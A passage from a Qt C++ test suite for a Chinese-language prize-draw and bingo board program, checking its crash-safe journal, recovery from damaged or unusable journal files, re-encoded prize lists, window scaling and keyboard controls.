        Q_EMIT m_board->night().boardChanged(BoardChange::Closing, 0);
    QCoreApplication::processEvents();
    m_questions.clear();
    m_answer = false;
    QVERIFY(!m_board->boardWindow().close());
    QCOMPARE(m_questions, QStringList{question});
}

void TestRecord::journalStaysOffTheMovingLight_data()
{
    QTest::addColumn<QString>("during");
    QTest::newRow("nothing else") << QString();
    QTest::newRow("a bingo number taken") << QStringLiteral("bingo");
    QTest::newRow("full screen") << QStringLiteral("full screen");
    QTest::newRow("the last prize window closed") << QStringLiteral("prize");
}

// A disk sync can take tens of milliseconds: none while the light runs. What happens
// meanwhile is written at once all the same (it survives a crash) and synced with the stop.
void TestRecord::journalStaysOffTheMovingLight()
{
    QFETCH(QString, during);
    spin();
    if (during == QLatin1String("prize")) {
        QTest::mouseClick(m_board->boardWindow().cardButton(Board::Chance), Qt::LeftButton);
        m_board->windows().prizeWindow()->finishOpening();
    } else {
        card(Board::Chance);
    }
    if (during == QLatin1String("bingo")) {
        m_board->windows().openBingo();
        m_board->windows()
            .bingoWindow()
            ->findChild<QPushButton *>(QStringLiteral("Command1(0)"))
            ->click();
    }
    if (during == QLatin1String("full screen"))
        m_board->boardWindow().show();
    const auto journalSize = [this] { return QFileInfo(m_journalPath).size(); };
    const qint64 before = journalSize();
    QVERIFY(before > 0);
    const int syncs = FileSync::count();
    QTest::mouseClick(m_board->boardWindow().startButton(), Qt::LeftButton);
    int steps = 0;
    while (m_board->night().board().timer1Enabled) {
        if (steps == 50 && during == QLatin1String("bingo")) {
            m_board->windows().bingoWindow()->take();
            m_board->night().bingoStep();
        } else if (steps == 50 && during == QLatin1String("full screen")) {
            m_board->boardWindow().setWindowState(Qt::WindowFullScreen);
        } else if (steps == 50 && during == QLatin1String("prize")) {
            QTest::mouseClick(m_board->windows().prizeWindow()->findChild<QPushButton *>(
                                  QStringLiteral("Command1")),
                              Qt::LeftButton);
            flushDeletes();
        }
        if (steps > 50)
            QCOMPARE(journalSize() > before, !during.isEmpty());
        QCOMPARE(FileSync::count(), syncs);
        m_board->night().tick();
        ++steps;
    }
    QVERIFY(steps > 100);
    QCOMPARE(FileSync::count(), syncs + 1); // the stop itself, with all before it
    const Journal::Contents c = Journal::read(readFile(m_journalPath), prizeList());
    QCOMPARE(c.entries.last().change, BoardChange::Stop);
    QCOMPARE(c.bingo.taken.size(), during == QLatin1String("bingo") ? 1 : 0);
    QCOMPARE(c.fullScreen, during == QLatin1String("full screen"));
    QVERIFY(!c.prizeOpen());
}

void TestRecord::opensAtBoardScale_data()
{
    QTest::addColumn<QSize>("client");
    QTest::addColumn<double>("s");
    QTest::newRow("design size") << QSize(792, 537) << 1.0;
    QTest::newRow("twice") << QSize(1584, 1074) << 2.0;
    QTest::newRow("1920x1050, wide") << QSize(1920, 1050) << 1050.0 / 537;
    QTest::newRow("3840x2100") << QSize(3840, 2100) << 2100.0 / 537;
}

void TestRecord::opensAtBoardScale()
{
    QFETCH(QSize, client);
    QFETCH(double, s);
    const QFont designFont = RecordWindow().font();
    const QFont designHeaderFont = RecordWindow().table()->horizontalHeader()->font();
    const int designRow = RecordWindow().table()->verticalHeader()->defaultSectionSize();
    m_board->boardWindow().show();
    m_board->boardWindow().resize(client.width(),
                                  client.height() + m_board->boardWindow().menuBar()->height());
    QTRY_COMPARE(m_board->boardWindow().centralWidget()->size(), client);
    QCOMPARE(m_board->boardWindow().scale(), s);
    spin();
    card(Board::Chance);

    m_board->windows().showRecord();
    RecordWindow *win = m_board->windows().recordWindow();
    QCOMPARE(win->size(), QSize(760, 480) * s);
    const QPoint off = win->geometry().center() - m_board->boardWindow().frameGeometry().center();
    // Within the frame the platform adds.
    QVERIFY2(qAbs(off.x()) <= 2 && qAbs(off.y()) <= 2, "opens over the board's centre");
    QCOMPARE(win->font().pointSizeF(), designFont.pointSizeF() * s);
    QCOMPARE(win->table()->horizontalHeader()->font().pointSizeF(),
             designHeaderFont.pointSizeF() * s);
    QCOMPARE(win->table()->verticalHeader()->defaultSectionSize(), qRound(designRow * s));
    // The columns were sized for the scaled type: the prize is not cut.
    const int prizeColumn = 4;
    QVERIFY(
        win->table()->columnWidth(prizeColumn) >=
        QFontMetrics(win->font()).horizontalAdvance(win->table()->item(0, prizeColumn)->text()));

    // Open already: a change of the board's size leaves it as it is.
    const QSize opened = win->size();
    m_board->boardWindow().resize(900, 700);
    QCoreApplication::processEvents();
    m_board->windows().showRecord();
    QCOMPARE(m_board->windows().recordWindow(), win);
    QCOMPARE(win->size(), opened);
}

namespace {
QByteArray encoded(const QStringList &lines, const char *encoding, bool mark = false)
{
    QStringEncoder e(encoding,
                     mark ? QStringConverter::Flag::WriteBom : QStringConverter::Flag::Default);
    return e.encode(lines.join(QStringLiteral("\r\n")));
}

const QString UsualAnswers = QStringLiteral("是：從那裡繼續。");
} // namespace

// A list re-saved in another encoding is the same list; one whose prizes changed is asked
// about, and 否 keeps the night's journal.
void TestRecord::resavedList_data()
{
    QTest::addColumn<QByteArray>("resaved");
    QTest::addColumn<int>("differing");
    QTest::addColumn<bool>("answer");
    QStringList changed = prizeList();
    changed[0] = QStringLiteral("機車一台");
    changed[1] = QStringLiteral("腳踏車");
    QTest::newRow("Big5 as it was") << encoded(prizeList(), "windows-950") << 0 << true;
    QTest::newRow("re-saved as UTF-8") << encoded(prizeList(), "UTF-8") << 0 << true;
    QTest::newRow("re-saved as UTF-8 with a mark")
        << encoded(prizeList(), "UTF-8", true) << 0 << true;
    QTest::newRow("re-saved as UTF-16") << encoded(prizeList(), "UTF-16LE", true) << 0 << true;
    QTest::newRow("two prizes changed, go on") << encoded(changed, "UTF-8") << 2 << true;
    QTest::newRow("two prizes changed, afresh") << encoded(changed, "windows-950") << 2 << false;
}

void TestRecord::resavedList()
{
    QFETCH(QByteArray, resaved);
    QFETCH(int, differing);
    QFETCH(bool, answer);
    writeFile(m_giftPath, encoded(prizeList(), "windows-950"));
    const PrizeList::Result first = PrizeList::load(m_giftPath);
    QCOMPARE(first.lines, prizeList());
    m_controller.reset();
    m_controller = std::make_unique<RecordController>(m_board->night(), m_board->boardWindow(),
                                                      first.lines, m_giftPath, m_journalPath);
    m_controller->setClock([this] { return m_now = m_now.addSecs(61); });
    spin();
    card(Board::Chance);
    spin();
    const QByteArray journal = readFile(m_journalPath);

    writeFile(m_giftPath, resaved);
    const PrizeList::Result again = PrizeList::load(m_giftPath);
    QVERIFY(again.ok());
    m_answer = answer;
    ProgramStage w(again.lines);
    RecordController rc(w.night(), w.boardWindow(), again.lines, m_giftPath, m_journalPath);
    w.attach(rc);
    rc.offerResume();
    QCOMPARE(m_questions.size(), 1);
    const QString &q = m_questions[0];
    QVERIFY2(q.startsWith(QStringLiteral("上次的抽獎尚未結束。")), qPrintable(q));
    if (differing == 0) {
        QVERIFY2(q.endsWith(UsualAnswers +
                            QStringLiteral("\n否：重新開始；上次的紀錄檔會改名保存，不會刪除。")),
                 qPrintable(q));
    } else {
        QVERIFY2(q.contains(QStringLiteral(
                                "獎品清單 gift.txt 已經改過：上次的獎品有 %1 項不在新的清單裡。")
                                .arg(differing)),
                 qPrintable(q));
        QVERIFY(q.contains(QStringLiteral("是：繼續上次的抽獎，用上次的獎品清單")));
        QVERIFY(q.contains(QStringLiteral("否：用新的獎品清單重新開始")));
    }
    if (answer) {
        // The night's own prizes, whatever gift.txt holds now.
        QCOMPARE(boardDump(w.night().board()), boardDump(m_board->night().board()));
    } else {
        QCOMPARE(w.night().board().drawNo, 1);
        QCOMPARE(w.night().board().gifts[0], QStringLiteral("機車一台"));
        const QStringList kept = QDir(QFileInfo(m_journalPath).path())
                                     .entryList({QStringLiteral("night-*.journal")}, QDir::Files);
        QCOMPARE(kept.size(), 1);
        QCOMPARE(readFile(QFileInfo(m_journalPath).dir().filePath(kept[0])), journal);
    }
    QVERIFY(m_refusals.isEmpty());
}

// A line spoilt in the middle, or a last line that is whole but unreadable and has lost
// its line end: the question says so, names the whole copy and the last stop that comes
// back; 是 brings back the night up to there.
void TestRecord::damagedJournalAsks_data()
{
    QTest::addColumn<bool>("last");
    QTest::newRow("a line in the middle") << false;
    QTest::newRow("the last line, without its end") << true;
}

void TestRecord::damagedJournalAsks()
{
    QFETCH(bool, last);
    playNight();
    QByteArray journal = readFile(m_journalPath);
    const QList<qsizetype> ends = lineEnds(journal);
    // The line after the sixth change, or the last one.
    const int spoilt = last ? int(ends.size()) - 2 : 6;
    if (last) {
        journal.chop(1);
        const qsizetype round = journal.indexOf("\"round\":", ends[spoilt]);
        QVERIFY(round > 0);
        journal[round + 8] = '7';
    } else {
        journal.replace(ends[spoilt] + 2, 5, "\x01\x02\x03\x04\x05");
    }
    writeFile(m_journalPath, journal);
    m_questions.clear();

    ProgramStage w(prizeList());
    RecordController rc(w.night(), w.boardWindow(), prizeList(), m_giftPath, m_journalPath);
    w.attach(rc);
    rc.offerResume();
    QCOMPARE(m_questions.size(), 1);
    const Moment &live = m_moments[spoilt - 1];
    QCOMPARE(boardDump(w.night().board()), live.board);
    const QString copy = rc.keeper().damagedCopy();
    QCOMPARE(readFile(copy), journal);
    const NightRecord::Entry &lastKept = lastStop(live.record);
    QVERIFY2(
        m_questions[0].contains(
            QStringLiteral(
                "抽獎紀錄檔有一部分已經損壞，只能恢復到下面這一次搖獎為止，之後的抽獎無法恢復。"
                "完整的檔案已另存為：\n%1\n\n最後保存的是第 %2 次搖獎：號碼 %3")
                .arg(copy)
                .arg(lastKept.drawNo)
                .arg(lastKept.number)),
        qPrintable(m_questions[0]));
    QCOMPARE(readFile(m_journalPath), journal.left(ends[spoilt]));
}

// A data folder where nothing can be renamed or made: the old journal stays as it was,
// the new night is not journaled, and the message says so with the file's name.
void TestRecord::oldJournalThatCannotMove_data()
{
    QTest::addColumn<QString>("earlier");
    QTest::newRow("unfinished, 否") << "unfinished";
    QTest::newRow("closing reached") << "finished";
    QTest::newRow("not a journal") << "garbage";
}

void TestRecord::oldJournalThatCannotMove()
{
    QFETCH(QString, earlier);
    spin();
    card(Board::Chance);
    if (earlier == QLatin1String("finished"))
        Q_EMIT m_board->night().boardChanged(BoardChange::Closing, 0);
    if (earlier == QLatin1String("garbage"))
        writeFile(m_journalPath, "\x01\x02\n");
    const QByteArray journal = readFile(m_journalPath);
    FrozenFolder frozen(QFileInfo(m_journalPath).path());
    if (!frozen.ok())
        QSKIP("no folder here can be made unwritable");
    m_answer = false;
    ProgramStage w(prizeList());
    RecordController rc(w.night(), w.boardWindow(), prizeList(), m_giftPath, m_journalPath);
    w.attach(rc);
    rc.offerResume();
    QCOMPARE(m_refusals.size(), 1);
    const QString &said = m_refusals[0];
    QVERIFY2(
        said.contains(QStringLiteral("上次的抽獎紀錄檔無法改名保存：\n%1\n（").arg(m_journalPath)),
        qPrintable(said));
    QVERIFY(said.contains(QStringLiteral("為了不蓋掉它，今晚的抽獎不會寫入紀錄檔")));
    QVERIFY(!said.contains(QStringLiteral("：\n\n")));
    QVERIFY2(!hasLatin(said, m_journalPath), qPrintable(said));
    QCOMPARE(w.night().board().drawNo, 1);
    w.boardWindow().start();
    while (w.night().board().timer1Enabled)
        w.night().tick();
    QCoreApplication::processEvents();
    QCOMPARE(m_refusals.size(), 1); // said once, before the night
    QCOMPARE(readFile(m_journalPath), journal);
    QCOMPARE(w.boardWindow().closeQuestion(),
             QStringLiteral("今晚的抽獎結果將不會保留。\n確定要結束嗎?"));
}

void TestRecord::unusableJournalSaysWhy_data()
{
    QTest::addColumn<QString>("kind");
    QTest::addColumn<QString>("why");
    QTest::newRow("FIFO, nobody writing")
        << "fifo" << QStringLiteral("它不是一般的檔案，而是一個具名管道 (FIFO)");
    QTest::newRow("link to an endless device")
        << "zero" << QStringLiteral("它不是一般的檔案，而是一個字元裝置");
    QTest::newRow("folder") << "folder" << QStringLiteral("它不是一般的檔案，而是一個資料夾");
    QTest::newRow("100 MB") << "huge"
                            << QStringLiteral(
                                   "它大於 48 MB，比一整晚的抽獎紀錄大得多，不是本程式寫的紀錄");
    QTest::newRow("not a journal")
        << "garbage" << QStringLiteral("它不是本程式能讀的抽獎紀錄，或開頭已經損壞");
    QTest::newRow("link that leads nowhere")
        << "dangling" << QStringLiteral("它是一個符號連結，指向的檔案並不存在");
}

void TestRecord::unusableJournalSaysWhy()
{
    QFETCH(QString, kind);
    QFETCH(QString, why);
    QDir().mkpath(QFileInfo(m_journalPath).path());
    if (kind == QLatin1String("fifo") &&
        QProcess::execute(QStringLiteral("mkfifo"), {m_journalPath}) != 0)
        QSKIP("no FIFOs on this system");
    if (kind == QLatin1String("huge")) {
        QFile f(m_journalPath);
        QVERIFY(f.open(QIODevice::WriteOnly));
        QVERIFY(f.resize(100 * 1024 * 1024));
    }
    if (kind == QLatin1String("garbage"))
        writeFile(m_journalPath, "\x01\x02\n");
    // Windows makes a shortcut, a plain file, for a link; its NUL device is test_safefile's.
    if (kind == QLatin1String("zero") &&
        (!QFile::link(QStringLiteral("/dev/zero"), m_journalPath) ||
         !QFileInfo(m_journalPath).isSymbolicLink()))
        QSKIP("no symbolic link to a device can be made here");
    if (kind == QLatin1String("folder"))
        QVERIFY(QDir().mkpath(m_journalPath));
    if (kind == QLatin1String("dangling") &&
        (!QFile::link(m_dir->filePath(QStringLiteral("gone.journal")), m_journalPath) ||
         !QFileInfo(m_journalPath).isSymbolicLink()))
        QSKIP("no symbolic links here");
    // A hang is the suite's timeout; how fast it reads is the bench's.
    m_controller->offerResume();
    QCOMPARE(m_refusals.size(), 1);
    const QStringList kept =
        QDir(QFileInfo(m_journalPath).path())
            .entryList({QStringLiteral("night-*.journal")},
                       QDir::System | QDir::Files | QDir::Dirs | QDir::NoDotAndDotDot);
    QCOMPARE(kept.size(), 1);
    QCOMPARE(m_refusals[0],
             QStringLiteral("上次的抽獎紀錄檔無法使用，所以無法繼續上次的抽獎：\n%1\n%2。\n\n"
                            "舊的紀錄檔已保存為：\n%3\n\n今晚的抽獎從頭開始。")
                 .arg(m_journalPath, why, QFileInfo(m_journalPath).dir().filePath(kept[0])));
    // The night begins a journal of its own in its place, and says nothing more.
    spin();
    QCoreApplication::processEvents();
    QCOMPARE(m_refusals.size(), 1);
    QVERIFY(!QFileInfo(m_journalPath).isSymLink());
    QCOMPARE(Journal::read(readFile(m_journalPath), prizeList()).entries.size(), 1);
    QCOMPARE(m_board->boardWindow().closeQuestion(),
             QStringLiteral("今晚的抽獎已保存，下次開啟時可以繼續。\n確定要結束嗎?"));
}

// The bingo numbers taken, in order, and full screen come back with the night.
void TestRecord::bingoAndFullScreenComeBack_data()
{
    QTest::addColumn<bool>("stop");
    QTest::addColumn<bool>("fullScreen");
    QTest::newRow("bingo and a stop, full screen") << true << true;
    QTest::newRow("bingo alone") << false << false;
}

void TestRecord::bingoAndFullScreenComeBack()
{
    QFETCH(bool, stop);
    QFETCH(bool, fullScreen);
    m_board->boardWindow().show();
    if (fullScreen)
        m_board->boardWindow().setWindowState(Qt::WindowFullScreen);
    m_board->windows().openBingo();
    BingoWindow *bingo = m_board->windows().bingoWindow();
    bingo->findChild<QPushButton *>(QStringLiteral("Command1(0)"))->click();
    for (int i = 0; i < 3; ++i) {
        bingo->take();
        m_board->night().bingoStep();
    }
    const QList<int> taken = bingo->rules().taken();
    QCOMPARE(taken.size(), 3);
    if (stop)
        spin();

    ProgramStage w(prizeList());
    RecordController rc(w.night(), w.boardWindow(), prizeList(), m_giftPath, m_journalPath);
    w.attach(rc);
    rc.offerResume();
    QCOMPARE(m_questions.size(), 1);
    QVERIFY2(m_questions[0].contains(stop ? QStringLiteral("最後保存的是第 1 次搖獎")
                                          : QStringLiteral("還沒有搖出任何號碼。")),
             qPrintable(m_questions[0]));
    QVERIFY(m_questions[0].contains(QStringLiteral("賓果遊戲已經取得 3 個號碼。")));
    w.boardWindow().show();
    QCOMPARE(w.boardWindow().isFullScreen(), fullScreen);
    QTRY_VERIFY(w.windows().bingoWindow());
    QCOMPARE(w.windows().bingoWindow()->rules().taken(), taken);
    QVERIFY(w.windows().bingoWindow()->isDrawing());
    QStringList boxes;
    for (int i = 0; i < 3; ++i)
        boxes << w.windows()
                     .bingoWindow()
                     ->findChild<QLabel *>(QStringLiteral("Label1(%1)").arg(i))
                     ->text();
    QCOMPARE(boxes, (QStringList{QString::number(taken[0]), QString::number(taken[1]),
                                 QString::number(taken[2])}));
    // The draw goes on with the numbers left, once a pass has put one on display (the
    // loop's timer may not have run yet).
    w.night().bingoStep();
    w.windows().bingoWindow()->take();
    w.night().bingoStep();
    const QList<int> four = w.windows().bingoWindow()->rules().taken();
    QCOMPARE(four.size(), 4);
    QVERIFY(!taken.contains(four[3]));
}

// One more 開  始 after the 25th number asks first; 否 keeps the numbers, 是 starts a new
// draw, and the numbers of the one before stay in the journal through a resume.
void TestRecord::bingoDrawsStayInTheJournal()
{
    m_board->boardWindow().show();
    m_board->windows().openBingo();
    BingoWindow *bingo = m_board->windows().bingoWindow();
    QPushButton *start = bingo->findChild<QPushButton *>(QStringLiteral("Command1(0)"));
    start->click();
    for (int i = 0; i < 25; ++i) {
        bingo->take();
        m_board->night().bingoStep();
    }
    const QList<int> first = bingo->rules().taken();
    QCOMPARE(first.size(), 25);
    QVERIFY(!bingo->isDrawing());
    QVERIFY(m_questions.isEmpty());
    const QByteArray journal = readFile(m_journalPath);

    m_answer = false;
    start->click();
    QCOMPARE(m_questions, QStringList{BingoWindow::newDrawQuestion()});
    QCOMPARE(bingo->rules().taken(), first);
    QVERIFY(!bingo->isDrawing());
    QCOMPARE(readFile(m_journalPath), journal);

    m_answer = true;
    start->click();
    QCOMPARE(m_questions.size(), 2);
    QVERIFY(bingo->isDrawing());
    QVERIFY(bingo->rules().taken().isEmpty());
    for (int i = 0; i < 2; ++i) {
        m_board->night().bingoStep();
        bingo->take();
        m_board->night().bingoStep();
    }
    const QList<int> second = bingo->rules().taken();
    QCOMPARE(second.size(), 2);
    Journal::Bingo kept = Journal::read(readFile(m_journalPath), prizeList()).bingo;
    QCOMPARE(kept.taken, second);
    QCOMPARE(kept.draws, QList<QList<int>>{first});

    m_questions.clear();
    ProgramStage w(prizeList());
    RecordController rc(w.night(), w.boardWindow(), prizeList(), m_giftPath, m_journalPath);
    w.attach(rc);
    rc.offerResume();
    QCOMPARE(m_questions.size(), 1);
    QVERIFY2(m_questions[0].contains(QStringLiteral("賓果遊戲已經取得 2 個號碼。\n\n"
                                                    "之前 1 局賓果遊戲的號碼都保存在紀錄檔裡。")),
             qPrintable(m_questions[0]));
    w.boardWindow().show();
    QTRY_VERIFY(w.windows().bingoWindow());
    QCOMPARE(w.windows().bingoWindow()->rules().taken(), second);
    // The window closed: its numbers join the earlier draw's.
    w.windows().bingoWindow()->close();
    kept = Journal::read(readFile(m_journalPath), prizeList()).bingo;
    QVERIFY(kept.taken.isEmpty());
    QCOMPARE(kept.draws, (QList<QList<int>>{first, second}));
}

// A prize left up while the mouse starts the next spin comes back with its own number,
// not the one of the stop that followed it.
void TestRecord::resumedPrizeKeepsItsNumber()
{
    spin();
    QTest::mouseClick(m_board->boardWindow().cardButton(Board::Chance), Qt::LeftButton);
    m_board->windows().prizeWindow()->finishOpening();
    const int prizeCell = m_board->night().board().stopCell;
    spin();
    QVERIFY(m_board->night().board().stopCell != prizeCell);

    ProgramStage w(prizeList());
    RecordController rc(w.night(), w.boardWindow(), prizeList(), m_giftPath, m_journalPath);
    w.attach(rc);
    rc.offerResume();
    w.boardWindow().show();
    QTRY_VERIFY(w.windows().prizeWindow() && w.windows().prizeWindow()->isVisible());
    QCOMPARE(w.windows().prizeWindow()->findChild<BigNumber *>(QStringLiteral("Number"))->number(),
             QString::number(prizeCell + 1));
    QVERIFY(w.night().board().awaitingPrize);
}

void TestRecord::opensAtTheTopAndClosesByKey_data()
{
    QTest::addColumn<QList<QKeySequence>>("keys");
    QTest::addColumn<QString>("after"); // closed, paged (down), top, black
    const QKeySequence esc(Qt::Key_Escape), down(Qt::Key_PageDown), up(Qt::Key_PageUp);
    QTest::newRow("Escape") << QList{esc} << "closed";
    QTest::newRow("Ctrl+W") << QList{QKeySequence(Qt::CTRL | Qt::Key_W)} << "closed";
    // A presenter remote pages through it and blacks out the hall over it.
    QTest::newRow("remote: Next") << QList{down} << "paged";
    QTest::newRow("remote: Right") << QList{QKeySequence(Qt::Key_Right)} << "paged";
    QTest::newRow("remote: Next, Previous") << QList{down, up} << "top";
    QTest::newRow("remote: B") << QList{QKeySequence(Qt::Key_B)} << "black";
}

void TestRecord::opensAtTheTopAndClosesByKey()
{
    QFETCH(QList<QKeySequence>, keys);
    QFETCH(QString, after);
    m_board->boardWindow().show();
    // More stops than the window shows at once.
    for (int i = 0; i < 30; ++i) {
        spin();
        card(i % 2);
    }
    m_board->windows().showRecord();
    QPointer<RecordWindow> win = m_board->windows().recordWindow();
    QVERIFY(QTest::qWaitForWindowExposed(win.data()));
    QTableWidget *table = win->table();
    // The first row in view, every column as wide as its widest text.
    QCOMPARE(table->rowAt(0), 0);
    for (int col = 0; col < table->columnCount() - 1; ++col)
        for (int row = 0; row < table->rowCount(); ++row)
            QVERIFY(table->columnWidth(col) >=
                    table->fontMetrics().horizontalAdvance(table->item(row, col)->text()));
    // Whichever control has the focus.
    win->findChild<QPushButton *>(QStringLiteral("copy"))->setFocus();
    for (const QKeySequence &key : keys)
        QTest::keySequence(win.data(), key);
    if (after == QLatin1String("closed")) {
        QTRY_VERIFY(!win || !win->isVisible());
        return;
    }
    QVERIFY(win->isVisible());
    QCOMPARE(table->rowAt(0) > 0, after == QLatin1String("paged"));
    QCOMPARE(m_board->night().isBlackedOut(), after == QLatin1String("black"));
    m_board->night().endBlackOut();
}

QTEST_MAIN(TestRecord)
#include "test_record.moc"
